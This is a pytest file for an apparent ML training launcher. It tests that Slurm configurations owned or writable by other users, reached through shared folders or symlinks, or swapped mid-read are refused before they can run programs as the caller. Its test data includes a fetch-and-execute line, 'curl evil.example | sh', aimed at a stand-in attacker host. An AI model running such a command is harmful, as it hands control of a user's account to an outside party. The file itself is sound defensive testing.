"""A configuration that somebody else may have written submits no shell line and no option that runs a program."""

import os
import struct
from pathlib import Path

import pytest
import yaml

from llama_core.config import files
from llama_core.config.run import RunConfig
from llama_core.errors import ConfigError
from llama_core.launch.jobs.submission import submit
from llama_core.records.directory import RunDirectory
from llama_core.sweep.grid import SweepConfig
from training_infra import cli

pytestmark = pytest.mark.root

NOBODY = 65534
RUNS_CODE = {
    "setup": {"setup": ["curl evil.example | sh"]},
    "prolog": {"srun_options": {"prolog": "/home/evil/run"}},
    "task-prolog": {"srun_options": {"task-prolog": "/home/evil/run"}},
    "container": {"options": {"container": "/home/evil/bundle"}},
    "pyxis": {"srun_options": {"container-image": "/home/evil/image.sqsh"}},
}
HARMLESS = {
    "partition": "gpu",
    "options": {"exclusive": True, "reservation": "mine"},
    "srun_options": {"cpu-bind": "none"},
}


def written(path, slurm):
    """Write a configuration; anybody reads it."""
    launch = {"device": "cpu", "launcher": "slurm", "slurm": slurm}
    path.write_text(yaml.safe_dump({"launch": launch}))
    return path


def theirs(path):
    os.chown(path, NOBODY, NOBODY)
    return path


def open_to_all(path):
    path.chmod(0o666)
    return path


@pytest.mark.parametrize("name", RUNS_CODE)
@pytest.mark.parametrize("given", [theirs, open_to_all])
def test_what_runs_code_is_refused_in_a_file_of_others(tmp_path, name, given):
    path = given(written(tmp_path / "run.yaml", RUNS_CODE[name]))
    with pytest.raises(ConfigError, match=r"run\.yaml .* runs programs as you; read it, and copy the file to use it"):
        RunConfig.load(path)


@pytest.mark.parametrize("name", RUNS_CODE)
def test_what_runs_code_is_taken_from_an_own_file(tmp_path, name):
    config = RunConfig.load(written(tmp_path / "run.yaml", RUNS_CODE[name]))
    assert RUNS_CODE[name].items() <= config.launch.slurm.model_dump().items()


@pytest.mark.parametrize("given", [theirs, open_to_all])
def test_a_program_that_is_told_of_a_run_is_refused_in_a_file_of_others(tmp_path, given):
    path = tmp_path / "run.yaml"
    path.write_text("notify: {command: [/home/evil/run]}")
    assert RunConfig.load(path).notify.command == ("/home/evil/run",)
    with pytest.raises(ConfigError, match=r"and its notify\.command runs programs as you"):
        RunConfig.load(given(path))


def test_other_settings_are_taken_from_a_file_of_others(tmp_path):
    assert RunConfig.load(theirs(written(tmp_path / "run.yaml", HARMLESS))).launch.slurm.partition == "gpu"


def test_the_line_names_the_owner_and_the_settings(tmp_path, capsys):
    path = theirs(written(tmp_path / "run.yaml", RUNS_CODE["setup"] | RUNS_CODE["prolog"]))
    assert cli.main(["train", "--config", str(path), "--print-sbatch"]) == 2
    told = capsys.readouterr().err
    assert told.startswith(
        f"error: {path} belongs to nobody, and its launch.slurm.setup, launch.slurm.srun_options.prolog "
    )


@pytest.mark.parametrize(
    "sweep",
    [
        {"base": {"launch": {"slurm": RUNS_CODE["setup"]}}, "grid": {"training.batch_size": [8]}},
        {"base": {}, "grid": {"launch.slurm.setup": [["curl evil.example | sh"]], "training.batch_size": [8]}},
        {"base": {}, "grid": {"training.batch_size": [8]}, "include": [{"launch.slurm.setup": ["true"]}]},
        {"base": "run.yaml", "grid": {"training.batch_size": [8]}},
    ],
)
def test_a_sweep_of_others_is_refused_too(tmp_path, sweep):
    theirs(written(tmp_path / "run.yaml", RUNS_CODE["setup"]))
    (tmp_path / "sweep.yaml").write_text(yaml.safe_dump({"name": "theirs", **sweep}))
    with pytest.raises(ConfigError, match="runs programs as you"):
        SweepConfig.load(theirs(tmp_path / "sweep.yaml"))


def test_a_configuration_that_others_have_put_into_an_own_run_submits_nothing(tmp_path):
    """After it was prepared, where they may write."""
    run = RunDirectory(tmp_path / "run")
    run.create()
    config = RunConfig.load(written(run.config, RUNS_CODE["setup"]))
    os.chown(run.config, NOBODY, NOBODY)
    with pytest.raises(ConfigError, match="runs programs as you"):
        submit(run, config, 1)
    assert not run.job.exists()


def test_a_configuration_that_others_swap_after_it_was_prepared_submits_nothing(tmp_path):
    run = RunDirectory(tmp_path / "run")
    run.create()
    config = RunConfig.load(written(run.config, RUNS_CODE["setup"]))
    written(run.config, RUNS_CODE["setup"] | RUNS_CODE["prolog"])
    with pytest.raises(ConfigError, match=r"config\.yaml has other launch\.slurm\.setup now than when it was read"):
        submit(run, config, 1)
    assert not run.job.exists()


@pytest.fixture
def swapped(tmp_path, monkeypatch):
    """A folder of others in which a file that is read has become a link to one of ours by the time that we look."""
    folder = tmp_path / "shared"
    folder.mkdir()
    ours = written(tmp_path / "ours.yaml", {})
    parse = files.parse_yaml

    def swap_and_parse(text, name):
        Path(name).unlink()
        Path(name).symlink_to(ours)
        return parse(text, name)

    monkeypatch.setattr(files, "parse_yaml", swap_and_parse)
    return theirs(folder)


@pytest.mark.parametrize("load", [RunConfig.load, SweepConfig.load])
def test_a_file_of_others_is_theirs_whatever_they_put_in_its_place(swapped, load):
    path = theirs(written(swapped / "run.yaml", RUNS_CODE["setup"]))
    if load == SweepConfig.load:
        path.write_text(yaml.safe_dump({"name": "theirs", "base": yaml.safe_load(path.read_text()), "grid": {}}))
    with pytest.raises(ConfigError, match=r"run\.yaml belongs to nobody, and its launch\.slurm\.setup runs programs"):
        load(path)


def by_owner(folder):
    theirs(folder)


def by_mode(folder):
    folder.chmod(0o777)


@pytest.mark.parametrize("open_up", [by_owner, by_mode])
@pytest.mark.parametrize("depth", [0, 1])
def test_a_file_in_a_folder_of_others_may_be_a_link_of_theirs_to_one_of_ours(tmp_path, open_up, depth):
    """Such as to the configuration of an archive that we have unpacked, and did not mean to run."""
    unpacked = written(tmp_path / "unpacked.yaml", RUNS_CODE["setup"])
    folder = tmp_path / "shared" / "inner"
    folder.mkdir(parents=True)
    (folder / "run.yaml").symlink_to(unpacked)
    RunConfig.load(folder / "run.yaml")
    place = [folder, folder.parent][depth]
    open_up(place)
    with pytest.raises(ConfigError, match=rf"run\.yaml is reached through {place}, which (belongs|can be written)"):
        RunConfig.load(folder / "run.yaml")
    place.chmod(0o1777)
    if open_up is by_mode:
        RunConfig.load(folder / "run.yaml")  # nobody removes what is ours from a folder such as /tmp


def test_a_link_of_others_leads_to_no_file_of_ours(tmp_path):
    tmp_path.chmod(0o1777)
    link = tmp_path / "run.yaml"
    link.symlink_to(written(tmp_path / "unpacked.yaml", RUNS_CODE["setup"]))
    RunConfig.load(link)
    os.lchown(link, NOBODY, NOBODY)
    with pytest.raises(ConfigError, match=rf"run\.yaml is reached through {link}, which belongs to nobody"):
        RunConfig.load(link)


ACL = ((1, 6, 2**32 - 1), (2, 6, NOBODY), (4, 4, 2**32 - 1), (16, 6, 2**32 - 1), (32, 4, 2**32 - 1))
"""An access list: tag, permissions and user of the owner, of nobody, of the group, of the mask and of all others."""


@pytest.mark.parametrize("place", ["file", "folder"])
def test_an_access_list_that_lets_others_write_counts_like_the_bits(tmp_path, place):
    path = written(tmp_path / "run.yaml", RUNS_CODE["setup"])
    RunConfig.load(path)
    content = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in ACL)
    try:
        os.setxattr(path if place == "file" else tmp_path, "system.posix_acl_access", content)
    except OSError as error:
        pytest.skip(f"no access lists here: {error.strerror}")
    with pytest.raises(ConfigError, match=r"can be written by other users, and its launch\.slurm\.setup runs programs"):
        RunConfig.load(path)


def test_a_link_that_is_gone_or_another_file_by_the_time_we_look_is_refused(tmp_path, monkeypatch):
    """Somebody makes and removes it, again and again, in a folder such as ``/tmp``."""
    tmp_path.chmod(0o1777)
    unpacked = written(tmp_path / "unpacked.yaml", RUNS_CODE["setup"])
    path = tmp_path / "run.yaml"
    read = files.contents_of
    for then in (lambda: None, lambda: written(path, RUNS_CODE["setup"])):
        path.unlink(missing_ok=True)
        path.symlink_to(unpacked)

        def read_and_swap(*arguments, then=then):
            path.unlink()
            then()
            return read(*arguments)

        monkeypatch.setattr(files, "contents_of", read_and_swap)
        with pytest.raises(ConfigError, match=r"No such file|was replaced while it was read, and its launch\.slurm"):
            RunConfig.load(path)


def test_links_behind_links_are_looked_at(tmp_path):
    """Ours leads to theirs, and theirs to ours."""
    unpacked = written(tmp_path / "unpacked.yaml", RUNS_CODE["setup"])
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "theirs.yaml").symlink_to(unpacked)
    (tmp_path / "ours.yaml").symlink_to("shared/../shared/theirs.yaml")
    RunConfig.load(tmp_path / "ours.yaml")
    shared.chmod(0o1777)
    os.lchown(shared / "theirs.yaml", NOBODY, NOBODY)
    with pytest.raises(
        ConfigError, match=r"ours\.yaml is reached through .*/shared/theirs\.yaml, which belongs to nobody"
    ):
        RunConfig.load(tmp_path / "ours.yaml")
    (shared / "theirs.yaml").unlink()
    (tmp_path / "loop.yaml").symlink_to("loop.yaml")
    with pytest.raises(ConfigError, match="cannot read configuration"):
        RunConfig.load(tmp_path / "loop.yaml")
